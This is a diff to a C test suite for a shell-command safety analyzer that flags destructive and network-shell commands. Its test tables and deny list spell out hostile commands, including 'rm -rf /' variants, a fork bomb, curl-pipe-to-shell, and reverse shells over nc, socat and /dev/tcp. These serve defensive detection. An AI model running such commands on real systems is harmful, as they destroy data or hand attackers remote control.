@@ -11,6 +11,7 @@
 
 #include "base/str.h"
 #include "core/cmd.h"
+#include "core/config.h"
 #include "core/shell.h"
 #include "tap.h"
 
@@ -63,11 +64,11 @@ static const struct {
 	{"rm -rf ~/", "rm", "hardline:rm-home", 0},
 	{"rm -rf ~/.", "rm", "hardline:rm-home", 0},
 	{"rm -rf ~/*", "rm", "hardline:rm-home", 0},
-	{"rm -rf $HOME", "rm", "hardline:rm-home", 0},
-	{"rm -rf \"$HOME\"", "rm", "hardline:rm-home", 0},
-	{"rm -rf ${HOME}", "rm", "hardline:rm-home", 0},
-	{"rm -rf \"${HOME}/\"", "rm", "hardline:rm-home", 0},
-	{"rm -rf $HOME/*", "rm", "hardline:rm-home", 0},
+	{"rm -rf $HOME", "rm,rm", "hardline:rm-home", 0},
+	{"rm -rf \"$HOME\"", "rm,rm", "hardline:rm-home", 0},
+	{"rm -rf ${HOME}", "rm,rm", "hardline:rm-home", 0},
+	{"rm -rf \"${HOME}/\"", "rm,rm", "hardline:rm-home", 0},
+	{"rm -rf $HOME/*", "rm,rm", "hardline:rm-home", 0},
 	{"rm -rf /home/u", "rm", "hardline:rm-home", 0},
 	{"rm -rf /home/u/", "rm", "hardline:rm-home", 0},
 	{"rm -rf /root", "rm", "hardline:rm-system", 0},
@@ -75,7 +76,7 @@ static const struct {
 	{"rm -rf ~alice", "rm", "hardline:rm-home", 0},
 	{"rm -rf ~/..", "rm", "hardline:rm-system", 0},
 	{"rm -rf ~/project", "rm", "", 0},
-	{"rm -rf \"$HOME/project\"", "rm", "", 0},
+	{"rm -rf \"$HOME/project\"", "rm,rm", "", 0},
 	{"rm -rf '$HOME'", "rm", "", 0},
 	{"rm -rf \"~\"", "rm", "", 0},
 	{"rm -rf /usr", "rm", "hardline:rm-system", 0},
@@ -157,19 +158,19 @@ static const struct {
 	{"sh -c 'echo safe'", "sh,echo", "", 0},
 	{"bash script.sh", "bash", "", 0},
 	{"bash -c \"$X\"", "bash,$X", "", 1},
-	{"bash -c \"rm -rf / $X\"", "bash,rm", "hardline:rm-root", 1},
+	{"bash -c \"rm -rf / $X\"", "bash,rm", "hardline:rm-root,dynamic-target:rm", 1},
 	{"\\rm -rf /", "rm", "hardline:rm-root", 0},
 	{"/bin/rm -rf /", "rm", "hardline:rm-root", 0},
 	{"./rm -rf /", "rm", "hardline:rm-root", 0},
 	{"\"rm\" -rf /", "rm", "hardline:rm-root", 0},
 	{"r\"\"m -rf /", "rm", "hardline:rm-root", 0},
 	{"'r'm -rf /", "rm", "hardline:rm-root", 0},
-	{"$(echo rm) -rf /", "echo,$(echo rm),-rf", "", 1},
-	{"`echo rm` -rf /", "echo,`echo rm`,-rf", "", 1},
+	{"$(echo rm) -rf /", "echo,$(echo rm),-rf,rm", "hardline:rm-root", 1},
+	{"`echo rm` -rf /", "echo,`echo rm`,-rf,rm", "hardline:rm-root", 1},
 	{"$X -rf /", "$X,-rf", "", 1},
 	{"${X} -c 'rm -rf /'", "${X},-c", "", 1},
 	{"\"$X\" -rf /", "$X", "", 1},
-	{"$(echo) rm -rf /", "echo,$(echo),rm", "hardline:rm-root", 1},
+	{"$(echo) rm -rf /", "echo,$(echo),rm,rm", "hardline:rm-root,hardline:rm-root", 1},
 	{"$EMPTY rm -rf /", "$EMPTY,rm", "hardline:rm-root", 1},
 	{"echo x; rm -fr ~", "echo,rm", "hardline:rm-home", 0},
 	{"echo x && rm -rf / || true", "echo,rm,true", "hardline:rm-root", 0},
@@ -383,9 +384,9 @@ static const struct {
 	{"watch -x rm -rf /", "watch,rm", "hardline:rm-root", 0},
 	{"script -q -c 'reboot' /dev/null", "script,reboot", "hardline:power", 0},
 	{"unbuffer rm -rf /", "unbuffer,rm", "hardline:rm-root", 0},
-	{"echo a | xargs -I{} sh -c '{}'", "echo,xargs,sh,{}", "", 1},
-	{"echo a | xargs sh -c", "echo,xargs,sh", "", 1},
-	{"echo a | xargs bash", "echo,xargs,bash", "", 1},
+	{"echo a | xargs -I{} sh -c '{}'", "echo,xargs,sh,{},sh,a", "", 1},
+	{"echo a | xargs sh -c", "echo,xargs,sh,sh,a", "", 1},
+	{"echo a | xargs bash", "echo,xargs,bash,bash", "", 1},
 	{"ls | xargs -n1 sh -c 'echo \"$0\"'", "ls,xargs,sh,echo", "", 0},
 	{"fish -c 'rm -rf /'", "fish", "", 1},
 	{"tcsh -c reboot", "tcsh", "", 1},
@@ -400,13 +401,13 @@ static const struct {
 	{"r\\m -rf /", "rm", "hardline:rm-root", 0},
 	{"rm -rf $'/'", "rm", "hardline:rm-root", 0},
 	/* an argument whose value is unknown is no literal target: no floor (DYNAMIC_ARGS) */
-	{"rm -rf /$(echo)", "echo,rm", "", 0},
+	{"rm -rf /$(echo)", "echo,rm,rm", "hardline:rm-root", 0},
 	{"coproc rm -rf /", "rm", "hardline:rm-root", 0},
 	{"eval coproc rm -rf /", "eval,rm", "hardline:rm-root", 0},
 	{"command exec rm -rf /", "command,exec,rm", "hardline:rm-root", 0},
 	{"sudo -- sh -c 'rm -rf /'", "sudo,sh,rm", "hardline:rm-root", 0},
 	{"rm -rf / # comment", "rm", "hardline:rm-root", 0},
-	{"rm -rf \"$DIR/\"", "rm", "", 0},
+	{"rm -rf \"$DIR/\"", "rm", "dynamic-target:rm", 0},
 	{"exec > ~/.bashrc", "exec", "startup-write:~/.bashrc", 0},
 	{"cat x | sudo tee /dev/sda", "cat,sudo,tee", "hardline:disk-write", 0},
 	{"dd of=/dev/../dev/sda", "dd", "hardline:disk-write", 0},
@@ -452,7 +453,7 @@ static char *join_findings(const struct moat_cmd_analysis *a)
 
 static int analyze(const char *cmd, bool hardline, struct moat_cmd_analysis **ret, struct moat_error *e)
 {
-	struct moat_cmd_opts o = {HOME, hardline};
+	struct moat_cmd_opts o = {.home = HOME, .hardline = hardline};
 
 	moat_error_clear(e);
 	return moat_cmd_analyze(cmd, strlen(cmd), &o, ret, e);
@@ -623,7 +624,7 @@ static void test_views(void)
 
 	/* the home directory: opts->home, or any /home/NAME when unknown */
 	{
-		struct moat_cmd_opts o = {NULL, true};
+		struct moat_cmd_opts o = {.home = NULL, .hardline = true};
 
 		CHECK(moat_cmd_analyze("rm -rf ~", 8, &o, &a, &e) == 0);
 		CHECK(a->nfindings == 1 && strcmp(a->findings[0].rule, "hardline:rm-home") == 0);
@@ -646,7 +647,7 @@ static void test_views(void)
 	CHECK(analyze("bash -c 'echo \"x'", true, &a, &e) == -EINVAL);
 	CHECK_STR(e.where, "command:1:9");
 	{
-		struct moat_cmd_opts o = {HOME, true};
+		struct moat_cmd_opts o = {.home = HOME, .hardline = true};
 
 		CHECK(moat_cmd_analyze("echo a\0b", 8, &o, &a, &e) == -EINVAL);
 		CHECK_STR(e.msg, "NUL byte in command (byte 6)");
@@ -758,7 +759,7 @@ static void test_limits(void)
 	s[MOAT_CMD_MAX_LEN + 1] = '\0';
 	{
 		struct moat_cmd_analysis *a;
-		struct moat_cmd_opts o = {HOME, true};
+		struct moat_cmd_opts o = {.home = HOME, .hardline = true};
 
 		CHECK_INT(moat_cmd_analyze(s, MOAT_CMD_MAX_LEN, &o, &a, &e), 0);
 		moat_cmd_analysis_free(a);
@@ -795,6 +796,9 @@ static const char *const defaults[] = {
 	"halt", "poweroff", "init 0", "init 6", ":(){:|:&};:", "chmod 777", "chmod -R 777",
 	"curl|sh", "curl | sh", "curl|bash", "curl | bash", "wget|sh", "wget | sh", "wget|bash",
 	"wget | bash", "nc -e", "ncat -e", "history -c",
+	/* moat's additions */
+	"nc -c", "netcat -e", "netcat -c", "ncat -c", "ncat --sh-exec", "ncat --lua-exec",
+	"socat exec:", "socat system:", "/dev/tcp", "/dev/udp",
 };
 
 static const struct {
@@ -936,6 +940,30 @@ static const struct {
 	{"ncat -e", "ncat -e /bin/bash x 1", 1},
 	{"ncat -e", "ncat --exec /bin/bash x 1", 1},
 	{"ncat -e", "ncat -l 1", 0},
+	{"nc -c", "nc -c /bin/sh 10.0.0.1 4444", 1},
+	{"nc -c", "nc.traditional -lp 4444 -c bash", 1},
+	{"nc -c", "nc -C host 80", 0},
+	{"netcat -e", "netcat -e /bin/sh h 1", 1},
+	{"ncat -c", "ncat -c 'bash -i' h 1", 1},
+	{"ncat --sh-exec", "ncat --sh-exec 'bash -i' h 1", 1},
+	{"ncat --sh-exec", "ncat --sh-e 'bash -i' h 1", 1},
+	{"ncat --sh-exec", "ncat -l 1", 0},
+	{"ncat --lua-exec", "ncat --lua-exec x.lua h 1", 1},
+	{"socat exec:", "socat tcp:h:1 exec:/bin/sh", 1},
+	{"socat exec:", "socat TCP:h:1 EXEC:'bash -li',pty,stderr", 1},
+	{"socat exec:", "socat - EXEC:sh", 1},
+	{"socat exec:", "socat tcp-listen:1 stdout", 0},
+	{"socat exec:", "echo socat exec:sh", 0},
+	{"socat system:", "socat tcp:h:1 SYSTEM:'sh -i'", 1},
+	{"/dev/tcp", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", 1},
+	{"/dev/tcp", "sh -i > /dev/tcp/h/1 0<&1 2>&1", 1},
+	{"/dev/tcp", "exec 5<>/dev/tcp/h/80", 1},
+	{"/dev/tcp", "cat < /dev/tcp/h/80", 1},
+	{"/dev/tcp", "bash -c 'bash -i >& /dev//tcp/h/1 0>&1'", 1},
+	{"/dev/tcp", "echo x > \"/dev/tcp/$H/$P\"", 1},
+	{"/dev/tcp", "echo /dev/tcp/h/1", 0},
+	{"/dev/tcp", "echo x > /dev/tcpx", 0},
+	{"/dev/udp", "echo x > /dev/udp/h/53", 1},
 	{"history -c", "history -c", 1},
 	{"history -c", "history -cw", 1},
 	{"history -c", "history", 0},
@@ -973,7 +1001,11 @@ static void test_patterns(void)
 			       strcmp(moat_cmdpat_source(p), defaults[i]) == 0,
 		       "default pattern \"%s\" compiles", defaults[i]);
 		moat_cmdpat_free(p);
+		CHECKF(moat_default_denied_commands[i] &&
+			       strcmp(moat_default_denied_commands[i], defaults[i]) == 0,
+		       "default pattern %zu is the configuration's", i);
 	}
+	CHECK(moat_default_denied_commands[MOAT_ARRAY_SIZE(defaults)] == NULL);
 	for (size_t i = 0; i < MOAT_ARRAY_SIZE(pats); i++) {
 		struct moat_cmdpat *p = NULL;
 		struct moat_cmd_analysis *a = NULL;
@@ -1053,7 +1085,7 @@ static void test_timing(void)
 		"find . -name '*.pyc' -delete",
 	};
 	struct moat_cmdpat *pp[MOAT_ARRAY_SIZE(defaults)];
-	struct moat_cmd_opts o = {HOME, true};
+	struct moat_cmd_opts o = {.home = HOME, .hardline = true};
 	struct moat_error e;
 	const int n = 20000;
 	double t0, t1, t2;
